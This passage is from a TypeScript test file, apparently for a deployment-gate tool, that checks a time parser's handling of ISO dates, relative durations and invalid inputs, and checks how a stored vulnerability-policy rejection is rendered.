    expect(parseTime('2026-11-01', now, 'since').toISOString()).toBe('2026-11-01T00:00:00.000Z');
    expect(parseTime('2026-11-01', now, 'until').toISOString()).toBe('2026-11-02T00:00:00.000Z');
    expect(parseTime('2026-11-01T12:00:00Z', now, 'until').toISOString()).toBe('2026-11-01T12:00:00.000Z');
    expect(parseTime('2026-11-01T14:00:00+02:00', now, 'since').toISOString()).toBe(
      '2026-11-01T12:00:00.000Z',
    );
    expect(parseTime('30d', now, 'since').toISOString()).toBe('2026-10-26T12:00:00.000Z');
    expect(parseTime('12h', now, 'since').toISOString()).toBe('2026-11-25T00:00:00.000Z');
    expect(parseTime('90m', now, 'since').toISOString()).toBe('2026-11-25T10:30:00.000Z');
    expect(parseTime('2w', now, 'since').toISOString()).toBe('2026-11-11T12:00:00.000Z');
    // Dates that do not exist are refused, not rolled over into March or the next day.
    for (const bad of [
      'yesterday',
      '2026-11-01T12:00:00',
      '2026-13-01',
      '2026-02-30',
      '2026-02-29',
      '2026-04-31T00:00:00Z',
      '2026-11-01T24:00:00Z',
      '30',
      '-3d',
      '3y',
      '',
    ]) {
      expect(() => parseTime(bad, now, 'since'), bad).toThrow(/expected an ISO-8601 date/);
    }
  });
});

describe('renderShow', () => {
  it('says how many vulnerability ids a stored decision left out of a violation', () => {
    const record = chainRecord(
      {
        type: 'decision',
        time: '2026-11-25T12:00:00.000Z',
        actor: 'tollgate',
        gate: { pipeline: 'payments-api', executionId: 'exec-1', stage: 'Gate', action: 'Tollgate' },
        image: { repository: 'payments/api', digest: `sha256:${'a'.repeat(64)}`, tags: [] },
        outcome: 'REJECT',
        summary: 'REJECT',
        violations: [
          {
            rule: 'no-critical',
            action: 'reject',
            allow: 0,
            count: 3000,
            findings: ['CVE-2026-10000'],
            findingsOmitted: 2999,
          },
        ],
        warnings: [],
        exceptions: null,
        counts: null,
        policy: null,
        vulnerabilities: [],
        vulnerabilitiesTruncated: true,
        action: null,
        resolution: null,
      },
      'payments-api',
      undefined,
    );
    expect(renderShow(record, { computed: record.hash, previous: undefined })).toContain(
      '3000 matching (allow 0): CVE-2026-10000 (+2999 more, not stored)',
    );
  });
});
